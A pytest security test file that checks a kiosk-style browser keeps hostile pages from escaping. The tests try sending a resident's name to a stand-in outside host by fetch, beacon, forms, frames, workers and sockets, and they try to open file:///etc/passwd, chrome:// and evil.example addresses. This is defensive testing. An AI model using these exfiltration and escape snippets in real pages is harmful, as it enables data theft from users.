"""A page that means harm finds no way out: to another host, into the machine, or to what is not the page's."""

from __future__ import annotations

import os
from contextlib import suppress
from pathlib import Path

import pytest

from contact_center.errors import MadoguchiError
from tests.desk.booth import OUTSIDE, Answer, Outside, Scene, play, until
from tests.desk.hostile import SOON, STAGE, alone, does, takes_a_press

# -- ways out --------------------------------------------------------------------------------------------------------------

PAGES_OUT = {
    "an address": "location.href = there",
    "a redirect": "location.href = '/redirect'",
    "a redirect by itself": "location.href = '/refresh'",
    "a form": "const f = document.createElement('form'); f.action = there; f.innerHTML = '<input name=who value=hanako>';"
    " document.body.append(f); f.submit()",
    "a posted form in a new window": "const f = document.createElement('form'); Object.assign(f, { action: there, method: 'post',"
    " target: '_blank' }); document.body.append(f); f.submit()",
    "a window": "open(there)",
    "a link to a new window": "const a = document.createElement('a'); Object.assign(a, { href: there, target: '_blank' });"
    " document.body.append(a); a.click()",
    "a frame": "const f = document.createElement('iframe'); f.src = there; document.body.append(f)",
}


@pytest.mark.requirement("IZ-07")
def test_no_page_window_form_frame_or_redirect_leads_to_another_host_and_only_the_host_is_told() -> None:
    outside = Outside()
    there = f"http://{outside.host}/?who=hanako"

    async def scene(on: Scene) -> None:
        for how, act in PAGES_OUT.items():
            on.console.told.clear()
            await does(on, f"const there = '{there}'; {act}")
            await until(lambda: {"blocked": OUTSIDE} in on.console.told, SOON)
            assert "hanako" not in str(on.console.told), how
            await alone(on)

    more: dict[str, Answer] = {
        "/redirect": (302, {"Location": there}, ""),
        "/refresh": f"<meta http-equiv=refresh content='0;url={there}'>",
    }
    play(STAGE, scene, more=more)
    assert outside.came == []
    outside.close()


PARTS_OUT = {
    "fetch": "fetch(there, { mode: 'no-cors' }).then(came, refused)",
    "fetch that outlives its page": "fetch(there, { mode: 'no-cors', keepalive: true }).then(came, refused)",
    "fetch by a redirect": "fetch('/redirect').then(came, refused)",
    "image": "Object.assign(new Image(), { onload: came, onerror: refused }).src = there",
    "script": "adds('script', { src: there })",
    "style": "adds('link', { rel: 'stylesheet', href: there })",
    "fetched beforehand": "adds('link', { rel: 'prefetch', href: there })",
    "font": "new FontFace('f', `url(${there})`).load().then(came, refused)",
    "film": "Object.assign(document.createElement('video'), { onloadeddata: came, onerror: refused }).src = there",
    "events": "Object.assign(new EventSource(there), { onopen: came, onerror: refused })",
    "worker": "new Worker('/worker.js').onmessage = ({ data }) => done(data)",
    "shared worker": "new SharedWorker('/shared.js').port.onmessage = ({ data }) => done(data)",
    "service worker": "const all = navigator.serviceWorker; all.register('/service.js'); all.onmessage = ({ data }) => done(data)",
    "beacon": "done(navigator.sendBeacon(there, 'hanako') ? 'sent' : 'refused')",
}


def parts(there: str) -> tuple[str, dict[str, Answer]]:
    """A page that tries each of the ways, and what its workers are."""
    words = (
        "const done = (how) => (said[name] ??= how), came = () => done('came'), refused = () => done('refused');"
        " const adds = (tag, how) =>"
        " document.head.append(Object.assign(document.createElement(tag), how, { onload: came, onerror: refused }))"
    )
    tries = "\n".join(f"{{ const name = '{name}'; {words}; {act}; }}" for name, act in PARTS_OUT.items())
    rules = f'{{"prefetch": [{{"source": "list", "urls": ["{there}"]}}], "prerender": [{{"source": "list", "urls": ["{there}"]}}]}}'
    page = (
        f"<script type=speculationrules>{rules}</script><link rel=icon href='{there}'><object data='{there}'></object>"
        f"<a ping='{there}' href='#here'>x</a><script>const said = {{}}, there = '{there}';\n{tries}</script>"
    )
    tell = f"fetch('{there}', {{ mode: 'no-cors' }}).then(() => 'came', () => 'refused')"
    return page, {
        "/redirect": (302, {"Location": there}, ""),
        "/worker.js": f"{tell}.then(postMessage)",
        "/shared.js": f"onconnect = ({{ ports: [port] }}) => {tell}.then((how) => port.postMessage(how))",
        "/service.js": "oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim()"
        f".then(() => {tell}).then(async (how) => {{ for (const one of await clients.matchAll()) one.postMessage(how); }}))",
    }


@pytest.mark.requirement("IZ-07")
def test_nothing_that_a_page_or_its_workers_load_or_send_reaches_another_host() -> None:
    outside = Outside()
    page, more = parts(f"http://{outside.host}/?who=hanako")

    async def scene(on: Scene) -> None:
        await until(lambda: on.page(f"Object.keys(said).length === {len(PARTS_OUT)}"), SOON)

    play(page, scene, more=more)
    assert outside.came == []
    outside.close()


ANSWER = "then(() => window.said = 'came', () => window.said = 'refused')"
SOCKETS_OUT = {
    "websocket": "const s = new WebSocket(`ws://${stream}/?who=hanako`); s.onopen = () => window.said = 'came';"
    " s.onerror = () => window.said = 'refused'",
    "call": "const c = new RTCPeerConnection({ iceServers: [{ urls: `stun:${datagrams}` }] }); c.createDataChannel('x');"
    " c.onicegatheringstatechange = () => c.iceGatheringState === 'complete' && (window.said = 'gathered');"
    " c.createOffer().then((offer) => c.setLocalDescription(offer))",
    "transport": f"new WebTransport(`https://${{datagrams}}/hanako`).ready.{ANSWER}",
}


@pytest.mark.requirement("IZ-07")
@pytest.mark.parametrize("how", SOCKETS_OUT)
def test_no_socket_that_a_page_opens_reaches_another_host(how: str) -> None:
    outside = Outside()
    act = f"const stream = '{outside.host}', datagrams = '{outside.datagrams}'; {SOCKETS_OUT[how]}"

    async def scene(on: Scene) -> None:
        await does(on, act)
        await until(lambda: bool(outside.came) or on.page("window.said"), SOON)

    play(STAGE, scene)
    assert outside.came == []
    outside.close()


SCHEMES = (
    "file:///etc/passwd", "chrome://settings", "chrome-untrusted://terminal", "view-source:http://{host}/", "data:text/html,<h1>x",
    "filesystem:http://{host}/x", "devtools://devtools/bundled/inspector.html", "javascript:void(location = 'chrome://settings')",
)  # fmt: skip


@pytest.mark.requirement("IZ-07")
def test_no_link_leads_into_the_machine_or_the_browser_itself() -> None:
    async def scene(on: Scene) -> None:
        for scheme in SCHEMES:
            address = scheme.format(host=on.site.host)
            for act in ("location.href = there", "open(there)"):
                await does(on, f'const there = "{address}"; {act}')
                # A page of nothing may come up.
                await until(lambda: on.page("window.pressed === 1 || location.href.startsWith('about:blank')"), SOON)
                assert (await on.page("location.href")).split("#")[0] in (f"http://{on.site.host}/", "about:blank"), address
                assert await on.page("['', 'x'].includes(document.body.innerText)"), address
                await alone(on)

    play(STAGE, scene)


ADDRESSES = (
    "https://evil.example/", "http://{host}@evil.example/", "http://{host}.evil.example/", "http://evil.example\\@{host}/",
    "javascript:alert(1)", "file:///etc/passwd", "chrome://settings", "view-source:http://{host}/", "http://{host}:x/",
    "//evil.example/", "", "x", "https://xn--{host}/",
)  # fmt: skip


@pytest.mark.requirement("IZ-07")
def test_an_operator_opens_no_address_but_one_of_the_menus() -> None:
    async def scene(on: Scene) -> None:
        on.booth.grant()
        for address in (one.format(host=on.site.host) for one in ADDRESSES):
            on.console.told.clear()
            opened = False
            try:
                await on.booth.pages.open(address)
                opened = {"blocked": "evil.example"} not in on.console.told
            except MadoguchiError as error:
                assert "ページ" in error.sentence()
            assert not opened, address
            assert await on.page("location.host") == on.site.host

    play(STAGE, scene)


@pytest.mark.requirement("IZ-07")
@pytest.mark.parametrize("address", ["data:text/html,<label>暗証番号 <canvas></canvas></label>", "about:srcdoc", "blob:http://{host}/1"])
def test_an_operator_puts_no_page_of_their_own_before_the_resident(address: str) -> None:
    async def scene(on: Scene) -> None:
        on.booth.grant()
        with pytest.raises(MadoguchiError):
            await on.booth.pages.open(address.format(host=on.site.host))
        assert await on.page("location.host") == on.site.host

    play(STAGE, scene)


def test_an_address_that_is_none_is_refused_with_a_sentence() -> None:
    async def scene(on: Scene) -> None:
        with pytest.raises(MadoguchiError):
            await on.booth.pages.open("http://[")

    play(STAGE, scene)


# -- out of the browser ----------------------------------------------------------------------------------------------------


@pytest.mark.requirement("IZ-09", "NB-05")
@pytest.mark.parametrize(
    ("how", "address"), [("a link", "tel:0120950178"), ("a link", "mailto:city@example.jp"), ("a script", "mailto:city@example.jp")]
)
def test_what_is_meant_for_another_program_starts_none_and_leaves_the_page_usable(
    how: str, address: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    started = tmp_path / "started"
    tells = f'echo "$0 $*" >>{started}'
    for name, body in (("xdg-open", tells), ("xdg-email", tells), ("xdg-settings", "")):
        program = tmp_path / name
        program.write_text(f"#!/bin/sh\n{body}\n")
        program.chmod(0o755)
    monkeypatch.setenv("PATH", f"{tmp_path}:{os.environ['PATH']}")

    async def scene(on: Scene) -> None:
        if how == "a script":
            await does(on, f"location.href = '{address}'")
        else:
            await on.resident_presses(100, 200)
        # Whatever would start, or ask, does so now.
        with suppress(AssertionError):
            await until(started.exists, 1.5)
        await takes_a_press(on)

    play(f"{STAGE}<a href='{address}' style='position:absolute;left:20px;top:180px;width:200px;height:40px'>x</a>", scene)
    assert not started.exists(), started.read_text()


@pytest.mark.requirement("IZ-09", "NB-03")
def test_a_download_writes_no_file_and_the_page_stays() -> None:
    found: list[Path] = []

    async def scene(on: Scene) -> None:
        for act in (
            "location.href = '/file'", "const a = document.createElement('a'); a.href = '/file'; a.download = 'x.pdf'; a.click()",
            "const a = document.createElement('a'); a.download = 'y.pdf'; a.href = URL.createObjectURL(new Blob(['x'])); a.click()",
        ):  # fmt: skip
            await does(on, act)
            await until(lambda: on.page("window.pressed === 1"), SOON)
            await takes_a_press(on)
        await until(lambda: on.site.asked.count("/file") == 2, SOON)
        assert await on.page("location.pathname") == "/"
        for place in (on.browser.folder, Path.home() / "Downloads"):
            found.extend(one for one in place.rglob("*") if one.suffix in (".pdf", ".crdownload"))

    play(STAGE, scene, more={"/file": (200, {"Content-Type": "application/pdf", "Content-Disposition": "attachment"}, "x")})
    assert found == []


@pytest.mark.requirement("IZ-07")
def test_a_page_takes_neither_the_whole_screen_nor_the_pointer_for_itself() -> None:
    async def scene(on: Scene) -> None:
        await does(on, f"document.documentElement.requestFullscreen().{ANSWER}")
        await until(lambda: on.page("window.said"), SOON)
        # The resident's key "end" stands on the strip of ours beside it.
        await until(lambda: on.page("document.fullscreenElement === null"), SOON)
        await does(on, f"document.body.requestPointerLock().{ANSWER}")
        await until(lambda: on.page("window.said && document.pointerLockElement === null"), SOON)
        await takes_a_press(on)

    play(STAGE, scene)


DEVICES = {
    "camera": "navigator.mediaDevices.getUserMedia({ video: true })",
    "microphone": "navigator.mediaDevices.getUserMedia({ audio: true })",
    "clipboard": "navigator.clipboard.readText()",
    "place": "new Promise((came, no) => navigator.geolocation.getCurrentPosition(came, no))",
    "notifications": "Notification.requestPermission().then((how) => how === 'granted' || Promise.reject())",
    "screens": "getScreenDetails()",
    "files": "showOpenFilePicker()",
    "folders": "showDirectoryPicker()",
}
DIALOGUES = {
    "the screen": "navigator.mediaDevices.getDisplayMedia({ video: true })",
    "a USB device": "navigator.usb.requestDevice({ filters: [] })",
    "a serial port": "navigator.serial.requestPort()",
    "a printer": "new Promise(() => print())",
}
FAKE_DEVICES = ("--use-fake-device-for-media-stream",)


@pytest.mark.requirement("IZ-07")
def test_a_page_is_given_neither_camera_nor_clipboard_nor_notifications() -> None:
    async def scene(on: Scene) -> None:
        given = []
        for name, asks in DEVICES.items():
            await does(on, f"(async () => {{ await {asks} }})().{ANSWER}")
            if await until(lambda: on.page("window.said"), SOON) == "came":
                given.append(name)
        assert given == []
        await takes_a_press(on)

    play(STAGE, scene, words=FAKE_DEVICES)


@pytest.mark.requirement("IZ-07")
@pytest.mark.parametrize("what", DIALOGUES)
def test_no_window_of_the_browsers_own_comes_between_a_resident_and_the_page(what: str) -> None:
    async def scene(on: Scene) -> None:
        await does(on, f"(async () => {{ await {DIALOGUES[what]} }})().catch(() => {{}})")
        await until(lambda: on.page("window.pressed === 1"), SOON)
        await takes_a_press(on)

    play(STAGE, scene, words=FAKE_DEVICES)
